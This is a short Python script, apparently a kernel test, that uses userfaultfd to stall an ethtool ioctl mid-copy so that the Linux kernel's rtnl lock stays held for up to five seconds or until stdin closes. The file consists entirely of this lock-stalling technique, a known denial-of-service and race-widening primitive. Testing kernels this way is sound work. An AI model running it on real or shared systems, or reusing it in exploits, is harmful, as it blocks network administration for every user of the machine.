"""Holds the kernel's rtnl lock until standard input is closed, for LIMIT seconds at most.

An ethtool request takes the lock and then reads its parameters, whose second half lies on a page that userfaultfd(2) has not filled yet.
Prints "held" when the lock is held, and "gave up" when the limit was reached first. Ends with 77 where this cannot be done.
"""
import ctypes
import fcntl
import mmap
import os
import platform
import select
import socket
import struct
import sys
import threading

LIMIT = 5.0
PAGE = mmap.PAGESIZE
SIOCETHTOOL, ETHTOOL_GSSET_INFO = 0x8946, 0x37
UFFDIO_API, UFFDIO_REGISTER, UFFDIO_ZEROPAGE = 0xC018AA3F, 0xC020AA00, 0xC020AA04
NUMBER = {"x86_64": 323, "aarch64": 282}

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]

pages = libc.mmap(None, 2 * PAGE, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
faults = libc.syscall(NUMBER.get(platform.machine(), -1), os.O_CLOEXEC)
if faults < 0:
    sys.exit(77)
fcntl.ioctl(faults, UFFDIO_API, struct.pack("QQQ", 0xAA, 0, 0))
ctypes.memset(pages, 0, PAGE)
fcntl.ioctl(faults, UFFDIO_REGISTER, bytearray(struct.pack("QQQQ", pages + PAGE, PAGE, 1, 0)))

# struct ethtool_sset_info: its first word is the command.
at = pages + PAGE - 4
ctypes.memmove(at, struct.pack("I", ETHTOOL_GSSET_INFO), 4)
request = bytearray(struct.pack("16sQ16x", b"lo", at))
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
holder = threading.Thread(target=fcntl.ioctl, args=(sock, SIOCETHTOOL, request))
holder.start()
os.read(faults, 32)
print("held", flush=True)
if not select.select([sys.stdin], [], [], LIMIT)[0]:
    print("gave up", flush=True)
fcntl.ioctl(faults, UFFDIO_ZEROPAGE, bytearray(struct.pack("QQQq", pages + PAGE, PAGE, 0, 0)))
holder.join()
